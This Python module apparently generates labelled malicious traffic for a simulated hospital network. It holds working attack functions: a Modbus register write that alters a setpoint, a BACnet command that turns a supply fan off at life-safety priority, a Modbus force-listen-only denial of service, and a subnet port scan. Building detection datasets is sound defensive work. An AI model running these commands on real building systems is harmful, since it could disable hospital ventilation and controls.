"""The acts that should not happen, but for the camera's login, which `stations.look_at_camera` performs with the default password."""

import asyncio
from contextlib import suppress

from bacpypes3.ipv4.app import NormalApplication
from bacpypes3.pdu import IPv4Address
from pymodbus.client import AsyncModbusTcpClient

from pcaps.hospital import hosts

SCANNED = tuple(f"10.22.8.{last}" for last in range(20, 40))
SCAN_PORTS = (502, 80)


async def office_setpoint(plc: AsyncModbusTcpClient) -> None:
    """FC 6: holding register 4001 = 30."""
    await plc.write_register(4001, 30, device_id=1)


async def priority_one(application: NormalApplication, server: hosts.Host) -> None:
    """The supply fan is commanded off at priority 1 (manual life safety), above everything the building system can say."""
    await application.write_property(IPv4Address(server.address), "binary-output,1", "present-value", "inactive", priority=1)


async def force_listen_only(gateway: AsyncModbusTcpClient) -> None:
    """FC 8 sub 4 to unit 1; nobody answers."""
    await gateway.diag_force_listen_only(device_id=1, no_response_expected=True)
    await asyncio.sleep(1)


async def office_scan() -> None:
    """A plain connect scan, one port after the other; absent hosts give only ARP requests."""
    for address in SCANNED:
        for port in SCAN_PORTS:
            with suppress(OSError, TimeoutError):
                _, writer = await asyncio.wait_for(asyncio.open_connection(address, port), 0.4)
                writer.close()
            await asyncio.sleep(0.1)
